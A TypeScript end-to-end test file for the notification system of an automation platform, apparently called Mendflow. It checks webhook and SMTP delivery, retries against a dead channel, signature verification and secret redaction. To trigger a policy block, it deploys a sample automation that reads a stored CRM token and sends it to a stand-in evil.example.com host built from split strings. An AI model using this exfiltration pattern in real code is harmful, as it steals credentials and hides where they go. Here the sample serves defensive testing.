import { createHmac, timingSafeEqual } from 'node:crypto';
import { once } from 'node:events';
import { simpleParser } from 'mailparser';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Api, apiClient, waitForRun } from './support/client';
import { freePort, type Stack, startStack } from './support/stack';
import { json, type StandIn, startStandIn } from './support/stand-ins';

// Notifications end to end: real API and worker processes, a local HTTP receiver for the webhook
// channel and a local SMTP server (with authentication) for the email channel; an inbox item opened
// by a policy failure is told to both, and a channel pointing at a closed port ends failed after its
// retries without holding anything up.
const SECRET_VALUE = 'crm-token-5f3a9c1e7b';
const SMTP_PASSWORD = 'smtp-password-8d2e4f6a';
const WEB_URL = 'http://dashboard.e2e.test';

let stack: Stack;
let api: Api;
let receiver: StandIn;
let smtp: SMTPServer;
let smtpPort: number;
const posts: { headers: Record<string, string | string[] | undefined>; body: string }[] = [];
const mails: { to: string[]; subject: string; text: string; html: string; raw: string }[] = [];

beforeAll(async () => {
  receiver = await startStandIn((request, body, response) => {
    posts.push({ headers: request.headers, body });
    json(response, 200, { ok: true });
  });
  smtp = new SMTPServer({
    authMethods: ['PLAIN', 'LOGIN'],
    // The test server speaks plain SMTP on 127.0.0.1 (secure: false, no STARTTLS offered).
    allowInsecureAuth: true,
    disabledCommands: ['STARTTLS'],
    onAuth(auth, _session, callback) {
      if (auth.username === 'mailer' && auth.password === SMTP_PASSWORD)
        return callback(null, { user: 'mailer' });
      return callback(new Error('invalid credentials'));
    },
    onData(stream, session, callback) {
      const chunks: Buffer[] = [];
      stream.on('data', (chunk: Buffer) => chunks.push(chunk));
      stream.on('end', () => {
        const raw = Buffer.concat(chunks).toString('utf8');
        void simpleParser(raw).then((parsed) => {
          mails.push({
            to: session.envelope.rcptTo.map((rcpt) => rcpt.address),
            subject: parsed.subject ?? '',
            text: parsed.text ?? '',
            html: typeof parsed.html === 'string' ? parsed.html : '',
            raw,
          });
          callback();
        }, callback);
      });
    },
  });
  smtpPort = await freePort();
  smtp.listen(smtpPort, '127.0.0.1');
  await once(smtp.server, 'listening');
  stack = await startStack('notify', {
    redisDb: 6,
    apiEnv: { MENDFLOW_WEB_URL: WEB_URL },
    workerEnv: { MENDFLOW_WEB_URL: WEB_URL, NOTIFY_RETRY_BASE_MS: '50', NOTIFY_TIMEOUT_MS: '2000' },
  });
  api = apiClient(stack.apiUrl);
});

afterAll(async () => {
  await stack?.stop();
  await receiver?.close();
  await new Promise<void>((resolve) => (smtp ? smtp.close(() => resolve()) : resolve()));
});

interface Delivery {
  id: string;
  channelName: string;
  status: string;
  attempts: number;
  lastError: string | null;
  subjectId: string;
  runId: string;
  message: { title: string; url: string };
  updatedAt: string;
}

async function deliveries(): Promise<Delivery[]> {
  const { status, body } = await api('GET', '/api/v1/notification-deliveries?limit=50');
  expect(status).toBe(200);
  return body.items;
}

async function until<T>(read: () => Promise<T>, done: (value: T) => boolean, timeoutMs = 20_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await read();
    if (done(value)) return value;
    if (Date.now() > deadline) throw new Error(`gave up waiting; last seen: ${JSON.stringify(value)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe('notifications', () => {
  it('an inbox item is notified by webhook and by email; a dead channel fails after its retries', async () => {
    expect((await api('PUT', '/api/v1/secrets/CRM_TOKEN', { value: SECRET_VALUE })).status).toBe(200);

    const hook = await api('POST', '/api/v1/notification-channels', {
      name: 'ops-hook',
      kind: 'webhook',
      config: { url: `${receiver.url}/mendflow` },
    });
    expect(hook.status, JSON.stringify(hook.body)).toBe(201);
    expect(hook.body).toMatchObject({
      kind: 'webhook',
      topics: ['inbox.opened'],
      enabled: true,
      hasSecret: true,
    });
    const signingSecret = hook.body.signingSecret as string;
    expect(signingSecret).toMatch(/^whsec_/);

    const mail = await api('POST', '/api/v1/notification-channels', {
      name: 'ops-mail',
      kind: 'email',
      config: {
        to: ['ops@example.com'],
        from: 'mendflow@example.com',
        smtp: { host: '127.0.0.1', port: smtpPort, secure: false, user: 'mailer' },
      },
      password: SMTP_PASSWORD,
    });
    expect(mail.status, JSON.stringify(mail.body)).toBe(201);
    const dead = await api('POST', '/api/v1/notification-channels', {
      name: 'dead-hook',
      kind: 'webhook',
      config: { url: `http://127.0.0.1:${await freePort()}/gone` },
    });
    expect(dead.status).toBe(201);

    // Bad input names the field.
    const bad = await api('POST', '/api/v1/notification-channels', {
      name: 'bad',
      kind: 'email',
      config: { to: ['nope'], from: 'mendflow@example.com', smtp: { host: 'x', port: 25, secure: false } },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toMatch(/^config\.to\.0: /);
    const badTopic = await api('POST', '/api/v1/notification-channels', {
      name: 'bad',
      kind: 'webhook',
      config: { url: 'https://x.test' },
      topics: ['run.nope'],
    });
    expect(badTopic.status).toBe(400);
    expect(badTopic.body.error.message).toMatch(/^topics\.0: /);

    // Listing never shows a secret, only that there is one.
    const listed = await api('GET', '/api/v1/notification-channels');
    expect(listed.body.items.map((c: { name: string }) => c.name)).toEqual([
      'dead-hook',
      'ops-hook',
      'ops-mail',
    ]);
    expect(JSON.stringify(listed.body)).not.toContain(signingSecret);
    expect(JSON.stringify(listed.body)).not.toContain(SMTP_PASSWORD);

    // A manifest narrowing to a channel that does not exist is refused at deploy.
    const typo = await api('POST', '/api/v1/automations', {
      name: 'typo',
      source: 'export default async function run() { return 1; }',
      manifest: { notifications: { channels: ['ops-hook', 'ops-mial'] } },
    });
    expect(typo.status).toBe(400);
    expect(typo.body.error.code).toBe('AUTOMATION_INVALID_MANIFEST');
    expect(typo.body.error.message).toMatch(/^manifest\.notifications\.channels\.1: /);

    const automation = await api('POST', '/api/v1/automations', {
      name: 'exfiltrate-orders',
      source: `export default async function run(input, ctx) {
        const token = await ctx.secrets.get('CRM_TOKEN');
        const target = ['evil', 'example', 'com'].join('.');
        return (await ctx.fetch('https://' + target + '/steal?token=' + token)).status;
      }`,
      manifest: { permissions: { secrets: ['CRM_TOKEN'] } },
    });
    expect(automation.status, JSON.stringify(automation.body)).toBe(201);
    const started = await api('POST', `/api/v1/automations/${automation.body.id}/runs`, { input: {} });
    expect(started.status).toBe(202);
    const run = await waitForRun(api, started.body.id);
    expect(run.status).toBe('action_needed');
    const [item] = (await api('GET', `/api/v1/inbox?runId=${run.id}`)).body.items;
    expect(item.kind).toBe('policy_violation');
    const actionNeededAt = Date.parse(
      (await api('GET', `/api/v1/runs/${run.id}/events`)).body.items.find(
        (e: { type: string }) => e.type === 'run.action_needed',
      ).createdAt,
    );

    const settled = await until(
      deliveries,
      (items) => items.length === 3 && items.every((d) => d.status !== 'pending'),
    );
    const byChannel = Object.fromEntries(settled.map((d) => [d.channelName, d]));
    expect(byChannel['ops-hook']).toMatchObject({
      status: 'delivered',
      attempts: 1,
      lastError: null,
      subjectId: item.id,
      runId: run.id,
    });
    expect(byChannel['ops-mail']).toMatchObject({ status: 'delivered', attempts: 1, subjectId: item.id });
    expect(byChannel['dead-hook']).toMatchObject({ status: 'failed', attempts: 6 });
    expect(byChannel['dead-hook']!.lastError).toMatch(/ECONNREFUSED/);
    // The run moved to action_needed before the dead channel's retries were over: it never waited.
    expect(Date.parse(byChannel['dead-hook']!.updatedAt)).toBeGreaterThan(actionNeededAt);
    expect(run.status).toBe('action_needed');

    // One signed POST, whose signature verifies as docs/notifications.md tells receivers to check it.
    expect(posts).toHaveLength(1);
    const post = posts[0]!;
    const header = String(post.headers['x-mendflow-signature']);
    const [, t, v1] = /^t=(\d+),v1=([0-9a-f]{64})$/.exec(header) ?? [];
    const expected = createHmac('sha256', signingSecret).update(`${t}.${post.body}`).digest('hex');
    expect(timingSafeEqual(Buffer.from(v1!, 'hex'), Buffer.from(expected, 'hex'))).toBe(true);
    expect(Math.abs(Date.now() / 1000 - Number(t))).toBeLessThan(60);
    const body = JSON.parse(post.body);
    expect(body).toMatchObject({
      deliveryId: byChannel['ops-hook']!.id,
      topic: 'inbox.opened',
      automation: { id: automation.body.id, name: 'exfiltrate-orders' },
      runId: run.id,
      inboxItemId: item.id,
      kind: 'policy_violation',
      reason: item.reason,
      url: `${WEB_URL}/runs/${run.id}`,
    });
    expect(body.reason).toContain('evil.example.com');
    expect(body).not.toHaveProperty('evidence');

    // One email to the configured address, with the title and the link.
    expect(mails).toHaveLength(1);
    const message = mails[0]!;
    expect(message.to).toEqual(['ops@example.com']);
    expect(message.subject).toBe(body.title);
    expect(message.subject).toContain('exfiltrate-orders');
    expect(message.text).toContain(`${WEB_URL}/runs/${run.id}`);
    expect(message.html).toContain(`href="${WEB_URL}/runs/${run.id}"`);

    // No secret anywhere: not the workspace secret the script read, not a channel's.
    const everything = [post.body, JSON.stringify(post.headers), message.raw, JSON.stringify(settled)].join(
      '\n',
    );
    for (const secret of [SECRET_VALUE, SMTP_PASSWORD, signingSecret])
      expect(everything).not.toContain(secret);

    // Filters: by channel and status.
    const failed = await api(
      'GET',
      `/api/v1/notification-deliveries?status=failed&channelId=${dead.body.id}`,
    );
    expect(failed.body.items.map((d: Delivery) => d.id)).toEqual([byChannel['dead-hook']!.id]);

    // A test send answers at once whether it arrived.
    const test = await api('POST', `/api/v1/notification-channels/${dead.body.id}/test`);
    expect(test.status).toBe(200);
    expect(test.body.delivered).toBe(false);
    expect(test.body.error).toMatch(/ECONNREFUSED/);
  });
});
